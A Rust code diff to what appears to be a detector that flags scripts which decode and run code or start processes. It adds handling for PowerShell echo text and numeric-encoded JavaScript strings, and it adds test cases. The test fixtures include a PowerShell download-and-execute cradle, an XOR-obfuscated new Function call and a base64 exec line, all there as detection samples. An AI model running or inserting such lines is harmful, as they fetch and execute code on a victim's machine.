@@ -116,6 +116,13 @@ fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, St
     if artifact.kind == Kind::Vbs {
         add_folded(artifact, &mut squeezed);
     }
+    if behaviour.evaluator(artifact.kind, &squeezed).is_some()
+        && let Some(shown) = script::masked_texts(&source)
+            .into_iter()
+            .find(|text| is_code(text))
+    {
+        return Some(("decodes-and-runs", shown));
+    }
     if let Some((deed, texts)) = behaviour.deed(artifact.kind, &squeezed) {
         let variant = match deed {
             Deed::DecodesAndRuns => "decodes-and-runs",
@@ -128,6 +135,11 @@ fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, St
         return started(&source, behaviour).map(|line| ("starts-process", line));
     }
     None
+}
+
+/// Whether a text that was made of numbers is a piece of a program.
+fn is_code(text: &str) -> bool {
+    text.len() >= 6 && text.contains(['(', '=', '.', ' '])
 }
 
 /// The script in lower case without blanks and without lines that are comments.
@@ -174,8 +186,29 @@ pub(super) fn squeezed(source: &str, kind: Kind) -> String {
 
 /// The tokens in lower case, comments and blanks left out, lines kept.
 fn squeezed_tokens(source: &str, language: Language) -> String {
+    /// What shows the text behind it and does nothing else.
+    const SHOWS: &[&str] = &[
+        "write-host",
+        "write-output",
+        "write-verbose",
+        "write-warning",
+        "write-error",
+        "echo",
+    ];
     let mut out = String::with_capacity(source.len());
+    let (mut shown, mut first) = (false, true);
     for token in script::tokens(source, language).0 {
+        let starts = std::mem::take(&mut first);
+        match &token.kind {
+            TokenKind::Line | TokenKind::Sign(b';' | b'|' | b'{' | b'}' | b'>') => {
+                (shown, first) = (false, true);
+            }
+            TokenKind::Name(name) if language == Language::PowerShell && starts => {
+                shown = SHOWS.contains(&name.to_ascii_lowercase().as_str());
+            }
+            TokenKind::Text(_) if shown => continue,
+            _ => {}
+        }
         match token.kind {
             TokenKind::Line => out.push('\n'),
             TokenKind::Name(name) => out.extend(name.chars().map(|c| c.to_ascii_lowercase())),
@@ -247,9 +280,13 @@ fn started(source: &str, behaviour: &Behaviours) -> Option<String> {
         }
         let start = bare.starts_with("start ") && bare.len() > 6;
         start
-            || command_line::commands(line)
-                .iter()
-                .any(|command| behaviour.batch.starters.contains(&command.program))
+            || command_line::commands(line).iter().any(|command| {
+                let batch = &behaviour.batch;
+                let ordinary = batch.ordinary.get(&command.program);
+                let arguments = command.arguments.to_lowercase();
+                batch.starters.contains(&command.program)
+                    && !ordinary.is_some_and(|given| arguments.contains(given.as_str()))
+            })
     };
     source
         .lines()
@@ -280,11 +317,19 @@ mod tests {
             ),
             (
                 Kind::Bat,
-                "@echo off\r\ncopy a b\r\necho start powershell\r\nrem start x\r\n",
+                "@echo off\r\ncopy a b\r\necho start powershell\r\nrem start x\r\nmsbuild App.sln /m\r\n",
             ),
             (
                 Kind::Ps1,
                 "Get-ChildItem | Sort-Object Name\n# Start-Process x\n",
+            ),
+            (
+                Kind::Ps1,
+                "Write-Host 'Invoke-WebRequest downloads'\nif ($a) { echo \"Start-Process\" }\n",
+            ),
+            (
+                Kind::Js,
+                "var keys = [97,108,101,114,116,40,41]; var g = new Function('return this')(); f(String.fromCharCode(keys[i]));",
             ),
             (
                 Kind::Vbs,
@@ -308,6 +353,11 @@ mod tests {
                 Kind::Ps1,
                 "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/'))",
             ),
+            (
+                Kind::Js,
+                "var k = [52,57,48,39,33,125,100,124]; for (i in k) r += String.fromCharCode(k[i] ^ 85); new Function(r)();",
+            ),
+            (Kind::Ps1, "Write-Host hello; Start-Process calc\n"),
             (Kind::Bat, "start \"\" a.exe\r\n"),
             (Kind::Py, "exec(base64.b64decode('YWJj'))\n"),
         ] {
